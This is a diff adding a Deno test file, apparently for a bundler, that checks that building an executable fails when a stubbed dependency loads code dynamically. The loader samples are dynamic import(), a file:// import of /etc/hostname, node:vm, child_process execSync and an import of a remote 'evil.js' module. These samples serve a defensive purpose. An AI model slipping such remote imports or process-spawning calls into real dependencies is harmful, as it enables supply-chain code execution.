@@ -1,0 +1,29 @@
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { bundle } from "../../scripts/bundle.ts";
+
+const LOADERS = {
+  "an import() of whatever it likes":
+    "const where = Deno.args[0]; await import(where);",
+  "an import() of a file": 'await import("file:///etc/hostname");',
+  "node:vm": 'import vm from "node:vm"; vm.runInThisContext("1");',
+  "node:child_process":
+    'import { execSync } from "node:child_process"; execSync("true");',
+  "a module of the web": 'import "https://example.com/evil.js";',
+};
+
+for (const [name, code] of Object.entries(LOADERS)) {
+  Deno.test(`no executable is made of a dependency that has ${name}`, async () => {
+    const folder = await Deno.makeTempDir({ prefix: "updsts" });
+    try {
+      const stub = join(folder, "stub.js");
+      await Deno.writeTextFile(stub, `export * from "@stricli/core";\n${code}`);
+      await assert.rejects(
+        bundle(join(folder, "bundle"), { replace: { "@stricli/core": stub } }),
+        /loads code|imports |resolve/,
+      );
+    } finally {
+      await Deno.remove(folder, { recursive: true });
+    }
+  });
+}
